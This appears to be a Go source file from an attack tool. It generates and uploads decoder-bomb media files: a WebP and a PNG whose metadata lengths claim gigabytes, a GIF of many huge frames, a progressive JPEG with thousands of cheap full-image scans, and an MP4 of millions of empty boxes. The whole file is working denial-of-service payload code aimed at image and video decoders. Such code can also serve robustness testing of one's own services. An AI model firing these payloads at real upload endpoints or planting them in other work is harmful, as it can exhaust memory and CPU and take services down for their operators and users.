package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"image"
	"image/color"
	"image/gif"
	"slices"
)

// pictures uploads small files that cost a careless decoder much.
func (c *attackCommand) pictures(ctx context.Context) {
	c.send(ctx, "picture", emptyClaim(), hugeChunk(), manyFrames(6320, 50), manyScans(6000, 2000), emptyBoxes(20<<17))
}

// emptyClaim is a WebP whose metadata claim 4 GiB.
func emptyClaim() []byte {
	b := []byte("RIFF\x3e\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x08\x00\x00\x00\x00\x00\x00\x00\x00\x00EXIF\xfe\xff\xff\xff")
	return append(b, make([]byte, 70-len(b))...)
}

// hugeChunk is a PNG whose metadata claim 2 GiB.
func hugeChunk() []byte {
	b := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x7f\xff\xff\xffeXIf")
	return append(b, make([]byte, 122-len(b))...)
}

// manyFrames is a GIF of the same large picture n times.
func manyFrames(side, n int) []byte {
	var one bytes.Buffer
	if err := gif.Encode(&one, image.NewPaletted(image.Rect(0, 0, side, side), color.Palette{color.Black, color.White}), nil); err != nil {
		panic(err) // it is our own picture
	}
	const head = 6 + 7 // signature, screen; the frame has the palette
	all := one.Bytes()
	frame := all[head : len(all)-1]
	return slices.Concat(all[:head], bytes.Repeat(frame, n), []byte{0x3b})
}

// manyScans is a progressive JPEG whose scans each go over all its blocks in a few bytes.
func manyScans(side, n int) []byte {
	size := binary.BigEndian.AppendUint16(binary.BigEndian.AppendUint16(nil, uint16(side)), uint16(side))
	quant := append([]byte{0xff, 0xdb, 0, 67, 0}, bytes.Repeat([]byte{1}, 64)...)
	frame := slices.Concat([]byte{0xff, 0xc2, 0, 11, 8}, size, []byte{1, 1, 0x11, 0})
	code := slices.Concat([]byte{0xff, 0xc4, 0, 20, 0x10, 1}, make([]byte, 15), []byte{0xe0}) // one code of one bit: the next 2^14 and more blocks are empty
	scan := []byte{0xff, 0xda, 0, 8, 1, 1, 0, 1, 63, 0}
	blocks := (side / 8) * (side / 8)
	scan = append(scan, make([]byte, (blocks/(1<<14)+1)*15/8+1)...)
	return slices.Concat([]byte{0xff, 0xd8}, quant, frame, code, bytes.Repeat(scan, n), []byte{0xff, 0xd9})
}

// emptyBoxes is an MP4 of very many boxes without content.
func emptyBoxes(n int) []byte {
	return append([]byte("\x00\x00\x00\x14ftypisom\x00\x00\x02\x00isom"), bytes.Repeat([]byte("\x00\x00\x00\x08free"), n)...)
}
